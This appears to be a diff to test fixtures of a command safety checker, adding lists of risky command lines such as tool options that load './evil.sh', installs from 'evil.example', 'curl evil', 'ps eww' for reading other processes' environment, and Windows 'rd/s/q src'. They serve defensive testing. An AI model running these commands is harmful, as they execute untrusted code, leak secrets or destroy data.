@@ -600,6 +600,128 @@ conda env remove x
 npm test -- --import=data:text/javascript,1
 pytest -p data:x
 node --test data:text/javascript,1`,
+  'options that are code, programs or hosts': String.raw`
+npm test --node-options=--require=./evil.cjs
+npm test --node-opt=--import=./evil.mjs
+npm test --script-shell=./evil.sh
+npm test --script-shell ./evil.sh
+npm test --script-sh=./evil.sh
+npm test -script-shell=./evil.sh
+npm --script-shell=./evil.sh test
+npm test --shell=sh
+npm test --call=id
+npm test --userconfig=x
+npm ci --registry=evil.example
+npm ci --https-proxy evil.example:80
+npm ci --git=./evil.sh
+npm fund --browser=./evil.sh
+npm view x --viewer=./evil.sh
+npm install -g evil
+npm install --location=global evil
+npm test -- --exec=sh
+npm test -- -e 'require("child_process")'
+npm run x -- --import=./evil.mjs
+npm run x -- -c 'curl evil'
+pnpm --config.script-shell=./evil.sh test
+pnpm --shell-mode run x
+pnpm -c run id
+pnpm exec tsx -e 1
+yarn run node -e 1
+yarn --use-yarnrc=x test
+bun run -e 1
+bun test -r ./x
+bun test --preload=./x
+deno task --eval id
+deno test --import-map=x
+go test -exec ./evil.sh ./...
+go test -exec 'sh -c id' ./...
+go test --exec=sh
+go build -toolexec=./evil.sh
+go vet -vettool=./evil.sh
+go build -ldflags=-extld=sh
+go build -overlay=x.json
+go run -exec=sh .
+go run evil.example/x@latest
+go tool evil
+go clean -modcache
+go work use sub
+go mod edit -replace=a=b
+cargo test --config build.rustc-wrapper=./evil.sh
+cargo build --config 'target.x.runner="sh"'
+cargo rustc -- -C linker=./evil.sh
+cargo rustc -- -Clinker=sh
+cargo +./evil test
+cargo -Zunstable-options test
+rollup -p 'x(1)'
+pylint --init-hook='import os'
+pylint --load-plugins=evil
+tsup --onSuccess 'rm -rf src'
+gotestsum --post-run-command 'sh -c id'
+gotestsum --raw-command -- sh
+dune exec sh
+dune utop
+kotlinc -e 'println(1)'
+pdflatex -shell-escape x.tex
+pdflatex '\immediate\write18{id}'
+actionlint -shellcheck=./evil.sh
+mocha -r ./evil.cjs
+jest --config='{"globalSetup":"./evil.js"}'
+jest --transform='{"a":"./evil.js"}'
+vitest --execArgv=--import=./evil.mjs
+pytest -p evil
+mypy --python-executable ./evil.sh
+mypy -c 'import x'
+black --code=x
+rspec -r ./evil
+phpunit --bootstrap evil.php
+clang-tidy --load=evil.so
+cppcheck --clang=./evil.sh
+tap run sh
+scons CC=sh
+xcodebuild CC=sh
+mvn test -DargLine=-javaagent:evil.jar
+mvn test -Djvm=./evil.sh
+gradle test -Dorg.gradle.java.home=sub
+gradle build --init-script=evil.gradle
+meson test --wrapper 'sh -c id'
+bazel test --run_under=./evil.sh ...
+stack build --exec 'sh -c id'
+cabal build --with-ghc=./evil.sh
+zig test --test-cmd=sh x
+pip install --index-url=evil.example x
+pip install -i evil.example x
+uv pip list --python=./evil.sh
+dart pub global activate x
+poetry env use ./evil.sh
+buf generate --template '{"plugins":[{"local":"sh"}]}'
+nyc --require=./evil mocha
+gcc -fplugin=x src/a.c
+gcc -Wl,--dynamic-linker=x src/a.c
+make MAKEFLAGS=--eval
+make CC='sh -c id'
+python3 -m coverage run -m http.server
+python3 -m tox exec
+npx tsc --plugins x
+node_modules/.bin/vitest --globalSetup x`,
+  'the environment of other programs': String.raw`
+ps e
+ps auxe
+ps eww
+ps -auxe
+ps -aue
+ps -E
+ps -o environ
+ps axo pid,environ`,
+  'a bare repository': String.raw`
+cd bare && git fetch
+cd bare && CI=1 git fetch
+cd bare && git switch x
+cd bare && git stash`,
+  'all of a work tree from a folder in it': String.raw`
+cd sub && git add
+cd sub && git add -A
+cd sub && git add -u
+cd sub && git add --all --`,
   'forms of git': String.raw`
 git -c a=b fetch
 git -C OUT fetch
@@ -805,6 +927,18 @@ git status --no-optional-locks --evil`,
 
 /** The same for the shell of Windows. */
 export const onceOnlyLinesOfWindows = String.raw`
+rd/s/q src
+del/q src\a.ts
+del\x
+copy/y a b
+start/b calc
+call\evil
+cd\Windows && npm test
+cd/d x && npm test
+echo/x
+assoc/x
+src\a.ts
+date 01-01-2001
 npm test | more
 npm test | findstr x
 npm test > x
